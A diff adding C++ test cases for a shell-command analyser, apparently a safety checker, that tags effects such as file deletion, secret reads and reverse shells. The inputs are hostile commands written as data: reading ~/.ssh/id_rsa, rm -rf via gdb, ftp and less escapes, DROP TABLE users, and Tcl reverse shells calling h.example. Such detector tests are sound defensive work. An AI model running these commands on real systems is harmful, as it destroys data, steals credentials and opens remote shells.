@@ -42,6 +42,14 @@ TEST_CASE("lines behind a program that asks for the next one are its input") {
       {"vi /etc/cron.d/x\n\n", ""},
       {"python3 x.py\necho 1", "exec.file{x.py}"},
       {"if x; then python3\nfi", ""},
+      {"terraform console\nfile(\"/home/u/.ssh/id_rsa\")", "secret.read{~/.ssh/id_rsa}"},
+      {"gdb ./a.out\nshell rm -rf d", "fs.delete{d rf}"},
+      {"ftp example.org\n!rm -rf d", "fs.delete{d rf}"},
+      {"less notes.txt\n!rm -rf d", "fs.delete{d rf}"},
+      {"bash <<'X'\npython3\nimport shutil\nshutil.rmtree('x')\nX", "fs.delete{x rf}"},
+      {"printf 'psql app\\nDROP TABLE users;' | sh", "sql.drop-table{DROP TABLE USERS}"},
+      {"bash <<'X'\npython3 < y\nimport shutil\nshutil.rmtree('x')\nX", ""},
+      {"bash -c $'python3\\nimport shutil\\nshutil.rmtree(\"x\")'", "self.live-shell"},
   });
 }
 
@@ -137,6 +145,37 @@ TEST_CASE("R, julia, octave, elixir, erlang, lisps") {
   });
 }
 
+TEST_CASE("V runs what it compiles") {
+  check_effects({
+      {"echo 'fn main() { os.system(\"rm -rf d\") }' > x.v && v run x.v",
+       "fs.overwrite{x.v} fs.delete{d rf} exec.file{x.v}"},
+      {"echo 'os.rmdir_all(\"d\")!' > x.vsh; v x.vsh",
+       "fs.overwrite{x.vsh} fs.delete{d rf} exec.file{x.vsh}"},
+      {"echo 'os.rm(\"f\")!' > x.v; v -prod crun x.v", "fs.overwrite{x.v} fs.delete{f f} exec.file{x.v}"},
+      {"v -e 'os.execute(\"rm f\")'", "fs.delete{f}"},
+      {"echo 'os.rm(\"f\")!' > x.v; v x.v", "fs.overwrite{x.v}"},
+      {"v run hello.v", "exec.file{hello.v}"},
+      {"v fmt -w x.v", ""},
+      {"v version", ""},
+  });
+}
+
+TEST_CASE("what Python compiled runs as its source does") {
+  constexpr std::string_view kWrite = "echo 'import os; os.remove(\"f\")' > x.py; ";
+  for (const std::string_view run :
+       {"python3 -m py_compile x.py; python3 __pycache__/x.cpython-311.pyc",
+        "python2 -m compileall .; python2 x.pyc",
+        "python3 -c 'import py_compile; py_compile.compile(\"x.py\", \"y.pyc\")'; python3 y.pyc",
+        "python3 -m compileall -q .; python3 __pycache__/x.cpython-311.opt-1.pyc"}) {
+    CAPTURE(run);
+    bool deletes = false;
+    for (const auto& e : cmdai::test::analyzed(std::string(kWrite) + std::string(run)).effects)
+      deletes |= e.tag == "fs.delete";
+    CHECK(deletes);
+  }
+  check_effects({{"python3 -m py_compile x.py; python3 x.pyc", "exec.file{x.pyc}"}});
+}
+
 TEST_CASE("tcl and expect") {
   check_effects({
       {"tclsh <<< 'exec rm -rf d'", "fs.delete{d rf}"},
@@ -151,6 +190,12 @@ TEST_CASE("tcl and expect") {
       {"echo 'puts {exec rm f}' | tclsh", "fs.delete{f}"},
       {"echo '# exec rm f' | tclsh", ""},
       {"tclsh x.tcl", "exec.file{x.tcl}"},
+      {"tclsh <<< 'set s [socket h.example 9]; while 1 {gets $s c; puts $s [exec $c]}'", "net.reverse-shell"},
+      {"tclsh <<< 'set s [socket h.example 9]; gets $s c; set e \"exec $c\"; eval $e'", "net.reverse-shell"},
+      {"tclsh <<< 'set s [socket h.example 9]; exec /bin/sh <@$s >@$s'",
+       "exec.file{<@… ?} net.reverse-shell"},
+      {"tclsh <<< 'set s [socket h.example 9]; puts $s hi; exec date'", ""},
+      {"tclsh <<< 'set c date; exec $c'", ""},
   });
 }
 
